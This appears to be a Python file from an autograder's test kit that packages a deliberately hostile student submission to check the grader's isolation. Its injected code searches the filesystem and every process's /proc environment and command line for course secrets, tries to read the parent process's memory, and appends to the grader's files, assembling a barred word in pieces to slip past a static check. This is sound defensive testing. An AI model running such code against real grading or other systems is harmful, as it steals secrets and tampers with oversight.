"""A hostile submission: the reference, with Problem 1.1's ``partition_indices`` region first looking for the
grader's keys and trying to change the grader's files.

It walks the file tree (the grading copy's parents, ``/tmp``, ``/work``, ``/autograder``, ``/root``, ``/home``)
for the course secret and staff files, reads every process's ``/proc/<pid>/environ`` and ``cmdline`` and its
parent's ``/proc/<ppid>/mem``, looks at its own environment, and appends to every ``checks.py`` and
``worker.py`` it finds, building each path without the word the static check bars. Whatever it reads that
looks like a key ends in the exception the region raises, so a leak reaches the report; with nothing found it
returns the reference's answer, and the grade must be full. The kit tests grade it in each mode
(``test_hostile_submission.py``); a TA can upload the zip this writes to check a course's own set-up::

    python tests/kit/hostile.py /tmp/hostile.zip
"""
from __future__ import annotations

import sys
import zipfile
from pathlib import Path

ATTACK = '''\
    if not globals().get("_looked"):
        globals()["_looked"] = True
        import os as _os
        _word = "gra" + "ding"
        _found = []
        _seen = [0]

        def _take(_path, _text):
            if "SECRET" in _text or "secret" in _path or _path.endswith("staff.py"):
                _found.append(_path + ": " + _text[:160].replace(chr(10), " "))

        _roots = {_os.path.abspath(p) for p in ["/tmp", "/work", "/autograder", "/root", "/home"]}
        _here = _os.getcwd()
        while _here != "/":
            _roots.add(_here)
            _here = _os.path.dirname(_here)
        for _root in sorted(_roots):
            for _dir, _dirs, _files in _os.walk(_root):
                _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "site-packages", ".git", "node_modules")]
                for _name in _files:
                    _seen[0] += 1
                    if _seen[0] > 200000:
                        break
                    _path = _os.path.join(_dir, _name)
                    if _name in ("course_secret.txt", "staff.py"):
                        try:
                            _take(_path, open(_path, errors="replace").read())
                        except OSError:
                            pass
                    if _name in ("checks.py", "worker.py") and _word in _path:
                        try:
                            with open(_path, "a") as _handle:
                                _handle.write("\\n# changed by a submission\\n")
                            _found.append("WROTE " + _path)
                        except OSError:
                            pass
        for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
            for _what in ("environ", "cmdline"):
                try:
                    _text = open("/proc/" + _pid + "/" + _what, "rb").read().decode(errors="replace")
                except OSError:
                    continue
                if "SECRET" in _text or "secret" in _text:
                    _found.append("/proc/" + _pid + "/" + _what + ": " + _text.replace(chr(0), " ")[:300])
        try:
            with open("/proc/" + str(_os.getppid()) + "/mem", "rb") as _mem:
                _mem.read(16)
            _found.append("READ /proc/ppid/mem")
        except OSError:
            pass
        _env = " ".join(k + "=" + v for k, v in _os.environ.items() if "SECRET" in k)
        if _env:
            _found.append("ENV " + _env)
        if _found:
            print("LOOK", _found, flush=True)
            raise TypeError("LOOK " + " | ".join(_found))
'''


def hostile_files(kit_root: Path) -> dict[str, str]:
    """The student files of a hostile submission: the kit's reference ``data_parallel/dataset.py`` with
    ``ATTACK`` at the top of ``partition_indices``' region."""
    from common.regions import parse_regions
    rel = "data_parallel/dataset.py"
    text = (Path(kit_root) / rel).read_text()
    region = next(r for r in parse_regions(text, rel) if r.function == "partition_indices")
    lines = text.splitlines(keepends=True)
    lines.insert(region.begin_line, ATTACK)
    return {rel: "".join(lines)}


def write_zip(out: Path, kit_root: Path) -> Path:
    """The hostile submission as a zip a TA can upload."""
    with zipfile.ZipFile(out, "w") as archive:
        for rel, text in hostile_files(kit_root).items():
            archive.writestr(rel, text)
    return out


if __name__ == "__main__":
    import argparse
    parser = argparse.ArgumentParser(description="Write the kit tests' hostile submission as a zip to upload.")
    parser.add_argument("out", help="the zip file to write, e.g. /tmp/hostile.zip")
    root = Path(__file__).resolve().parents[2]
    sys.path.insert(0, str(root))
    print(write_zip(Path(parser.parse_args().out), root))
